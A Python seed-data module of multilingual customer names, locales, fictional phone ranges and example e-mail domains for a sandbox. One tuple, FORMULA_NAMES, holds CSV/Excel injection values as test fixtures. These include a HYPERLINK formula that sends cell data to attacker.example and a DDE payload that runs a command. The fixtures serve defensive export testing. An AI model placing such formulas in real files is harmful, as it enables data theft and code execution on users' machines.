"""Name, place and phone data for the sandbox seeds: customers from many countries and scripts.

Each :class:`Locale` lists given names and family names. Names in a non-Latin script carry
their romanization after ``|`` (used for e-mail addresses): ``"佐藤|sato"``. A given name
ending in ``*`` is female; a family name ``"Иванов/Иванова|ivanov"`` has a female form.
``family_first`` locales write the family name first (``佐藤 陽翔``, ``王伟``); ``joined``
ones write it without a space. E-mail domains are reserved ``.example`` / ``example.*``
domains, and phone numbers use fictional ranges where a country has one.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass


@dataclass(frozen=True)
class Locale:
    """Where a customer lives and how their name is written."""

    country: str
    weight: int
    currency: str
    given: tuple[str, ...]
    family: tuple[str, ...]
    phone_prefix: str
    phone_digits: int
    cities: tuple[tuple[str, str, str], ...]  # (city, postal code, state)
    family_first: bool = False
    joined: bool = False
    company_suffix: str = "Inc."
    language: str = "en"


def _t(text: str) -> tuple[str, ...]:
    return tuple(x.strip() for x in text.split(",") if x.strip())


_US_GIVEN = _t("""James, Mary*, Robert, Patricia*, John, Jennifer*, Michael, Linda*, David,
Elizabeth*, William, Barbara*, Richard, Susan*, Joseph, Jessica*, Thomas, Sarah*, Charles,
Karen*, Christopher, Lisa*, Daniel, Nancy*, Matthew, Ashley*, Anthony, Emily*, Mark,
Michelle*, Andrew, Amanda*, Joshua, Melissa*, Kevin, Stephanie*, Brian, Rebecca*, Tyler,
Madison*, DeShawn, Keisha*, Aaliyah*, José, Guadalupe*, Mei*, Kenji, Priya*""")
_US_FAMILY = _t("""Smith, Johnson, Williams, Brown, Jones, Garcia, Miller, Davis, Rodriguez,
Martinez, Hernandez, Lopez, Gonzalez, Wilson, Anderson, Thomas, Taylor, Moore, Jackson,
Martin, Lee, Perez, Thompson, White, Harris, Sanchez, Clark, Ramirez, Lewis, Robinson,
Walker, Young, Allen, King, Wright, Scott, Torres, Nguyen, Hill, Flores, O'Brien,
Washington, Kim, Patel, Cohen, McAllister""")
_GB_GIVEN = _t("""Oliver, Amelia*, George, Isla*, Harry, Ava*, Noah, Mia*, Jack, Ivy*, Leo,
Freya*, Arthur, Lily*, Muhammad, Florence*, Oscar, Evie*, Alfie, Rosie*, Callum, Siobhan*""")
_GB_FAMILY = _t("""Smith, Jones, Taylor, Brown, Williams, Wilson, Johnson, Davies, Patel,
Robinson, Wright, Thompson, Evans, Walker, White, Roberts, Green, Hall, Wood, Jackson,
Hughes, Khan, Ahmed, Campbell, MacDonald""")
_DE_GIVEN = _t("""Lukas, Anna*, Leon, Lea*, Finn, Hannah*, Jonas, Lena*, Paul, Marie*, Felix,
Sophie*, Jürgen, Käthe*, Björn, Jörg, Sören, Ursula*, Günther, Mehmet, Ayşe*""")
_DE_FAMILY = _t("""Müller, Schmidt, Schneider, Fischer, Weber, Meyer, Wagner, Becker, Schulz,
Hoffmann, Schäfer, Koch, Bauer, Richter, Klein, Wolf, Schröder, Neumann, Schwarz,
Zimmermann, Groß, Yılmaz, Krüger, Lehmann, Köhler""")
_FR_GIVEN = _t("""Gabriel, Léa*, Louis, Chloé*, Raphaël, Emma*, Jules, Inès*, Hugo, Manon*,
Arthur, Zoé*, Théo, Léna*, Maël, Camille*, Noé, Anaïs*, Jérôme, Hélène*""")
_FR_FAMILY = _t("""Martin, Bernard, Dubois, Thomas, Robert, Richard, Petit, Durand, Leroy,
Moreau, Simon, Laurent, Lefèvre, Michel, Garcia, David, Bertrand, Roux, Fournier, Girard,
Benoît, Chevalier, Müller, Da Silva""")
_ES_GIVEN = _t("""Hugo, Lucía*, Martín, Sofía*, Mateo, Martina*, Pablo, María*, Álvaro,
Paula*, Alejandro, Valeria*, Iñaki, Begoña*, Jordi, Núria*""")
_ES_FAMILY = _t("""García, Rodríguez, González, Fernández, López, Martínez, Sánchez, Pérez,
Gómez, Martín, Jiménez, Ruiz, Hernández, Díaz, Moreno, Muñoz, Álvarez, Iglesias, Ibáñez""")
_IT_GIVEN = _t("""Leonardo, Sofia*, Francesco, Aurora*, Alessandro, Giulia*, Lorenzo,
Ginevra*, Mattia, Alice*, Niccolò, Beatrice*, Tommaso, Chiara*""")
_IT_FAMILY = _t("""Rossi, Russo, Ferrari, Esposito, Bianchi, Romano, Colombo, Ricci, Marino,
Greco, Bruno, Gallo, Conti, De Luca, Mancini, Costa, D'Angelo, Lombardi""")
_NL_GIVEN = _t("Daan, Emma*, Sem, Julia*, Lucas, Mila*, Levi, Tess*, Bram, Fenna*, Joris, Anouk*")
_NL_FAMILY = _t("""de Jong, Jansen, de Vries, van den Berg, van Dijk, Bakker, Visser, Smit,
Meijer, de Boer, Mulder, van der Linden""")
_SE_GIVEN = _t("Lars, Astrid*, Erik, Ingrid*, Nils, Saga*, Oskar, Elsa*, Sven, Maja*, Åsa*")
_SE_FAMILY = _t("""Andersson, Johansson, Karlsson, Nilsson, Eriksson, Larsson, Olsson,
Persson, Lindström, Åberg, Söderberg""")
_PL_GIVEN = _t("Jakub, Zuzanna*, Antoni, Julia*, Szymon, Zofia*, Łukasz, Małgorzata*, Wojciech")
_PL_FAMILY = _t("""Nowak, Kowalski/Kowalska, Wiśniewski/Wiśniewska, Wójcik, Kowalczyk,
Kamiński/Kamińska, Lewandowski/Lewandowska, Zieliński/Zielińska, Woźniak, Dąbrowski/Dąbrowska""")
_BR_GIVEN = _t("João, Maria*, Miguel, Alice*, Arthur, Helena*, Davi, Laura*, Gabriel, Ana*")
_BR_FAMILY = _t("""Silva, Santos, Oliveira, Souza, Rodrigues, Ferreira, Alves, Pereira, Lima,
Gomes, Araújo, Conceição""")
_MX_GIVEN = _t("Santiago, Regina*, Sebastián, Ximena*, Diego, Camila*, Emiliano, Renata*")
_MX_FAMILY = _t("Hernández, García, Martínez, López, González, Rodríguez, Pérez, Sánchez")
_IE_GIVEN = _t("Seán, Aoife*, Conor, Siobhán*, Cian, Niamh*, Oisín, Saoirse*")
_IE_FAMILY = _t("Murphy, Kelly, O'Sullivan, Walsh, Smith, O'Brien, Byrne, Ryan, O'Connor")
_IN_LATIN_GIVEN = _t("Aarav, Ananya*, Vivaan, Diya*, Arjun, Saanvi*, Rahul, Priya*, Amit, Neha*")
_IN_LATIN_FAMILY = _t("Sharma, Verma, Gupta, Singh, Kumar, Patel, Joshi, Mehta, Iyer, Reddy")

# Non-Latin scripts, with romanizations for e-mail addresses.
_JP_GIVEN = _t("""陽翔|haruto, 蓮|ren, 湊|minato, 結菜*|yuina, 陽葵*|himari, さくら*|sakura,
健太|kenta, 美咲*|misaki, 翔太|shota, 愛*|ai, 大輔|daisuke, 由美*|yumi""")
_JP_FAMILY = _t("""佐藤|sato, 鈴木|suzuki, 高橋|takahashi, 田中|tanaka, 伊藤|ito, 渡辺|watanabe,
山本|yamamoto, 中村|nakamura, 小林|kobayashi, 加藤|kato""")
_CN_GIVEN = _t("""伟|wei, 芳*|fang, 娜*|na, 敏*|min, 静*|jing, 秀英*|xiuying, 丽*|li, 强|qiang,
磊|lei, 洋|yang, 艳*|yan, 勇|yong, 军|jun, 杰|jie, 婷*|ting, 子涵*|zihan, 浩然|haoran""")
_CN_FAMILY = _t("""王|wang, 李|li, 张|zhang, 刘|liu, 陈|chen, 杨|yang, 黄|huang, 赵|zhao, 吴|wu,
周|zhou, 欧阳|ouyang""")
_KR_GIVEN = _t("민준|minjun, 서연*|seoyeon, 지훈|jihun, 하은*|haeun, 도윤|doyun, 지아*|jia")
_KR_FAMILY = _t("김|kim, 이|lee, 박|park, 최|choi, 정|jung, 강|kang")
_BG_GIVEN = _t("""Георги|georgi, Мария*|maria, Иван|ivan, Елена*|elena, Димитър|dimitar,
Десислава*|desislava, Николай|nikolay, Петя*|petya""")
_BG_FAMILY = _t("""Иванов/Иванова|ivanov, Георгиев/Георгиева|georgiev,
Димитров/Димитрова|dimitrov, Петров/Петрова|petrov, Николов/Николова|nikolov,
Стоянов/Стоянова|stoyanov""")
_UA_GIVEN = _t("""Олександр|oleksandr, Олена*|olena, Андрій|andrii, Наталія*|nataliia,
Максим|maksym, Ірина*|iryna, Тарас|taras, Оксана*|oksana""")
_UA_FAMILY = _t("""Шевченко|shevchenko, Коваленко|kovalenko, Бондаренко|bondarenko,
Ткаченко|tkachenko, Мельник|melnyk, Кравчук|kravchuk, Бойко|boiko""")
_GR_GIVEN = _t("""Γιώργος|giorgos, Μαρία*|maria, Δημήτρης|dimitris, Ελένη*|eleni, Νίκος|nikos,
Αικατερίνη*|aikaterini, Κώστας|kostas, Σοφία*|sofia""")
_GR_FAMILY = _t("""Παπαδόπουλος/Παπαδοπούλου|papadopoulos, Παπαδάκης/Παπαδάκη|papadakis,
Γεωργίου|georgiou, Οικονόμου|oikonomou, Νικολάου|nikolaou, Βασιλείου|vasileiou""")
_IN_GIVEN = _t("""आरव|aarav, अनन्या*|ananya, विवान|vivaan, दीया*|diya, अर्जुन|arjun,
सान्वी*|saanvi, राहुल|rahul, प्रिया*|priya, अमित|amit, नेहा*|neha""")
_IN_FAMILY = _t("""शर्मा|sharma, वर्मा|verma, गुप्ता|gupta, सिंह|singh, कुमार|kumar, पटेल|patel,
जोशी|joshi, मेहता|mehta""")
_AR_GIVEN = _t("""محمد|mohammed, فاطمة*|fatima, أحمد|ahmed, مريم*|maryam, علي|ali, نور*|nour,
عمر|omar, ليلى*|layla, يوسف|youssef, سارة*|sara, خالد|khalid""")
_AR_FAMILY = _t("""العلي|alali, الحسن|alhassan, المنصوري|almansouri, الشامسي|alshamsi,
الهاشمي|alhashimi, القحطاني|alqahtani, عبدالله|abdullah, حداد|haddad""")

LOCALES: tuple[Locale, ...] = (
    Locale(
        "US",
        26,
        "usd",
        _US_GIVEN,
        _US_FAMILY,
        "+1415555",
        4,
        (
            ("San Francisco", "94103", "CA"),
            ("New York", "10001", "NY"),
            ("Austin", "78701", "TX"),
            ("Chicago", "60601", "IL"),
            ("Seattle", "98101", "WA"),
            ("Miami", "33101", "FL"),
            ("Denver", "80202", "CO"),
        ),
    ),
    Locale(
        "CA",
        4,
        "usd",
        _US_GIVEN,
        (*_US_FAMILY, "Tremblay", "Gagnon", "Roy", "Côté"),
        "+1416555",
        4,
        (
            ("Toronto", "M5H 2N2", "ON"),
            ("Montréal", "H2Y 1C6", "QC"),
            ("Vancouver", "V6B 1A1", "BC"),
        ),
        company_suffix="Ltd.",
    ),
    Locale(
        "GB",
        8,
        "gbp",
        _GB_GIVEN,
        _GB_FAMILY,
        "+447700900",
        3,
        (
            ("London", "EC1A 1BB", ""),
            ("Manchester", "M1 1AE", ""),
            ("Edinburgh", "EH1 1YZ", ""),
            ("Bristol", "BS1 4DJ", ""),
        ),
        company_suffix="Ltd",
    ),
    Locale(
        "IE",
        1,
        "eur",
        _IE_GIVEN,
        _IE_FAMILY,
        "+3538555",
        5,
        (("Dublin", "D02 X285", ""), ("Cork", "T12 RX0Y", "")),
        company_suffix="Ltd",
    ),
    Locale(
        "AU",
        3,
        "usd",
        _GB_GIVEN,
        (*_GB_FAMILY, "Nguyen", "Tran"),
        "+6149165",
        4,
        (("Sydney", "2000", "NSW"), ("Melbourne", "3000", "VIC")),
        company_suffix="Pty Ltd",
    ),
    Locale(
        "DE",
        7,
        "eur",
        _DE_GIVEN,
        _DE_FAMILY,
        "+4930120",
        5,
        (
            ("Berlin", "10115", ""),
            ("München", "80331", ""),
            ("Köln", "50667", ""),
            ("Hamburg", "20095", ""),
        ),
        company_suffix="GmbH",
        language="de",
    ),
    Locale(
        "FR",
        6,
        "eur",
        _FR_GIVEN,
        _FR_FAMILY,
        "+33612",
        6,
        (("Paris", "75001", ""), ("Lyon", "69001", ""), ("Marseille", "13001", "")),
        company_suffix="SAS",
        language="fr",
    ),
    Locale(
        "ES",
        4,
        "eur",
        _ES_GIVEN,
        _ES_FAMILY,
        "+34612",
        6,
        (("Madrid", "28001", ""), ("Barcelona", "08001", ""), ("Sevilla", "41001", "")),
        company_suffix="S.L.",
        language="es",
    ),
    Locale(
        "IT",
        4,
        "eur",
        _IT_GIVEN,
        _IT_FAMILY,
        "+39312",
        7,
        (("Milano", "20121", "MI"), ("Roma", "00184", "RM"), ("Torino", "10121", "TO")),
        company_suffix="S.r.l.",
        language="it",
    ),
    Locale(
        "NL",
        2,
        "eur",
        _NL_GIVEN,
        _NL_FAMILY,
        "+31612",
        6,
        (("Amsterdam", "1012 JS", ""), ("Utrecht", "3511 AA", "")),
        company_suffix="B.V.",
        language="nl",
    ),
    Locale(
        "SE",
        2,
        "eur",
        _SE_GIVEN,
        _SE_FAMILY,
        "+46701",
        6,
        (("Stockholm", "111 20", ""), ("Göteborg", "411 01", "")),
        company_suffix="AB",
        language="sv",
    ),
    Locale(
        "PL",
        2,
        "eur",
        _PL_GIVEN,
        _PL_FAMILY,
        "+48512",
        6,
        (("Warszawa", "00-001", ""), ("Kraków", "30-001", "")),
        company_suffix="sp. z o.o.",
        language="pl",
    ),
    Locale(
        "BR",
        3,
        "usd",
        _BR_GIVEN,
        _BR_FAMILY,
        "+551198",
        7,
        (("São Paulo", "01000-000", "SP"), ("Rio de Janeiro", "20000-000", "RJ")),
        company_suffix="Ltda.",
        language="pt-BR",
    ),
    Locale(
        "MX",
        2,
        "usd",
        _MX_GIVEN,
        _MX_FAMILY,
        "+52551",
        7,
        (("Ciudad de México", "06000", "CDMX"), ("Guadalajara", "44100", "JAL")),
        company_suffix="S.A. de C.V.",
        language="es-419",
    ),
    Locale(
        "IN",
        2,
        "usd",
        _IN_LATIN_GIVEN,
        _IN_LATIN_FAMILY,
        "+91981",
        7,
        (("Bengaluru", "560001", "KA"), ("Mumbai", "400001", "MH")),
        company_suffix="Pvt. Ltd.",
    ),
    Locale(
        "IN",
        2,
        "usd",
        _IN_GIVEN,
        _IN_FAMILY,
        "+91982",
        7,
        (("New Delhi", "110001", "DL"), ("Jaipur", "302001", "RJ")),
        company_suffix="Pvt. Ltd.",
        language="hi",
    ),
    Locale(
        "JP",
        4,
        "jpy",
        _JP_GIVEN,
        _JP_FAMILY,
        "+8190",
        8,
        (
            ("東京都渋谷区", "150-0002", "東京都"),
            ("大阪市北区", "530-0001", "大阪府"),
            ("京都市中京区", "604-8005", "京都府"),
        ),
        family_first=True,
        company_suffix="株式会社",
        language="ja",
    ),
    Locale(
        "CN",
        2,
        "usd",
        _CN_GIVEN,
        _CN_FAMILY,
        "+86138",
        8,
        (("上海市", "200000", "上海"), ("北京市", "100000", "北京")),
        family_first=True,
        joined=True,
        company_suffix="有限公司",
        language="zh",
    ),
    Locale(
        "SG",
        1,
        "usd",
        _CN_GIVEN,
        _CN_FAMILY,
        "+659",
        7,
        (("Singapore", "018956", ""),),
        family_first=True,
        joined=True,
        company_suffix="Pte. Ltd.",
        language="zh",
    ),
    Locale(
        "KR",
        1,
        "usd",
        _KR_GIVEN,
        _KR_FAMILY,
        "+8210",
        8,
        (("서울특별시", "04524", "서울"),),
        family_first=True,
        joined=True,
        company_suffix="주식회사",
        language="ko",
    ),
    Locale(
        "BG",
        1,
        "eur",
        _BG_GIVEN,
        _BG_FAMILY,
        "+35988",
        7,
        (("София", "1000", ""), ("Пловдив", "4000", "")),
        company_suffix="ЕООД",
        language="bg",
    ),
    Locale(
        "UA",
        1,
        "eur",
        _UA_GIVEN,
        _UA_FAMILY,
        "+38067",
        7,
        (("Київ", "01001", ""), ("Львів", "79000", "")),
        company_suffix="ТОВ",
        language="uk",
    ),
    Locale(
        "GR",
        2,
        "eur",
        _GR_GIVEN,
        _GR_FAMILY,
        "+30691",
        7,
        (("Αθήνα", "105 57", ""), ("Θεσσαλονίκη", "546 21", "")),
        company_suffix="Α.Ε.",
        language="el",
    ),
    Locale(
        "AE",
        2,
        "usd",
        _AR_GIVEN,
        _AR_FAMILY,
        "+97150",
        7,
        (("Dubai", "00000", "Dubai"), ("Abu Dhabi", "00000", "Abu Dhabi")),
        company_suffix="L.L.C.",
        language="ar",
    ),
    Locale(
        "SA",
        1,
        "usd",
        _AR_GIVEN,
        _AR_FAMILY,
        "+96650",
        7,
        (("الرياض", "11564", ""), ("جدة", "21577", "")),
        language="ar",
    ),
    Locale(
        "EG",
        1,
        "usd",
        _AR_GIVEN,
        _AR_FAMILY,
        "+2010",
        8,
        (("القاهرة", "11511", ""),),
        language="ar",
    ),
)

COMPANY_STEMS = _t("""Northwind, Bluebird, Silverline, Redwood, Brightpath, Ironclad,
Maple & Finch, Lumen, Quantum Leaf, Harbor, Summit, Pioneer, Copperleaf, Stonebridge,
Evergreen, Blue Heron, Kestrel, Tidewater, Foxglove, Granite Peak, Little Owl, Saffron""")
COMPANY_KINDS = _t("""Labs, Analytics, Studio, Logistics, Health, Robotics, Media, Partners,
Software, Foods, Architects, Dental, Yoga, Coffee Roasters, Legal, Design, Fitness""")

# Names a spreadsheet would treat as formulas (CSV/Excel injection): exports must escape them.
FORMULA_NAMES = (
    "=SUM(A1:A9)",
    '=HYPERLINK("http://attacker.example/?q="&A1,"Invoice")',
    "=1+1 Consulting",
    "=cmd|' /C calc'!A0",
    "+1 Plumbing & Heating",
    "+Plus Fitness Club",
    "-Minus Studio",
    "-- Dash Logistics",
    "@Home Cleaning Co.",
    "@mention Media",
)

EMAIL_DOMAINS = (
    "example.com",
    "example.org",
    "example.net",
    "mail.example",
    "post.example",
    "inbox.example",
)

DESCRIPTIONS = (
    "Migrated from the legacy billing system",
    "Signed up at the spring conference",
    "VIP: contact account manager before any change",
    "Referred by a partner agency",
    "Annual contract renewed by phone",
    "Prefers invoices in the local language",
    "Requested a pause during the holidays",
    "Upgraded after the free trial",
    "Nonprofit discount approved",
    "Billing questions go to the finance team",
)


def split_name(entry: str) -> tuple[str, str, bool]:
    """``"結菜*|yuina"`` → (native, romanized, female)."""
    native, _, roman = entry.partition("|")
    female = native.endswith("*")
    native = native.rstrip("*")
    return native, roman or native, female


def family_form(entry: str, female: bool) -> tuple[str, str]:
    """(native, romanized) family name in the right gendered form."""
    native, _, roman = entry.partition("|")
    male_form, _, female_form = native.partition("/")
    chosen = female_form if female and female_form else male_form
    return chosen, roman or male_form


def full_name(locale: Locale, given: str, family: str) -> str:
    if locale.family_first:
        return f"{family}{given}" if locale.joined else f"{family} {given}"
    return f"{given} {family}"


def ascii_token(text: str) -> str:
    """A lowercase e-mail-safe token for a (romanized) name: ``"Jürgen"`` → ``"jurgen"``."""
    lowered = text.lower()
    for src, dst in (
        ("ß", "ss"),
        ("ł", "l"),
        ("ø", "o"),
        ("æ", "ae"),
        ("œ", "oe"),
        ("ı", "i"),
        ("đ", "d"),
    ):
        lowered = lowered.replace(src, dst)
    plain = unicodedata.normalize("NFKD", lowered)
    return "".join(c for c in plain if c.isascii() and c.isalnum())
